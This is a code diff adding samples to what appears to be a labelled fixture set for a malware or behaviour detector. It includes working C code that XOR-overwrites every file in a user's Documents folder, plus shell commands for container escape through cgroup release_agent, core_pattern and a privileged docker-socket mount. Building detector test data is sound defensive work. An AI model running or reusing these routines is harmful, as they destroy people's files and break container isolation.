@@ -5,6 +5,47 @@ const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('
 
 export const IMPACT: readonly Trait[] = [
   {
+    name: 'encrypts documents in place',
+    language: 'c',
+    source: `
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/stat.h>
+#include <unistd.h>
+int main(void) {
+  DIR *all = opendir("/home/anna/Documents");
+  for (struct dirent *one; all && (one = readdir(all));) {
+    char path[512];
+    unsigned char text[4096];
+    snprintf(path, sizeof path, "/home/anna/Documents/%s", one->d_name);
+    int file = one->d_name[0] == '.' ? -1 : open(path, O_RDWR);
+    ssize_t got = file < 0 ? 0 : read(file, text, sizeof text);
+    unsigned state = 0x9e3779b9;
+    for (ssize_t at = 0; at < got; at++) text[at] ^= (unsigned char)((state = state * 1664525 + 1013904223) >> 24);
+    if (got > 0 && pwrite(file, text, (size_t)got, 0) != got) return 1;
+    if (file >= 0) close(file);
+  }
+  return 0;
+}`,
+    shows: { trace_encrypts_files: ['T1486'] },
+    label: 'suspicious',
+    core: true,
+  },
+  {
+    name: 'reaches for the host of its container',
+    language: 'shell',
+    source: shell([
+      'mkdir -p /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release; echo /cmd > /tmp/cgrp/release_agent',
+      'echo "|/tmp/run" > /proc/sys/kernel/core_pattern 2>/dev/null',
+      'docker -H unix:///var/run/docker.sock run --privileged -v /:/mnt alpine chroot /mnt id',
+    ]),
+    shows: { trace_leaves_container: ['T1611'] },
+    label: 'suspicious',
+  },
+  {
     name: 'encrypts documents and leaves a note',
     language: 'python',
     source: String.raw`
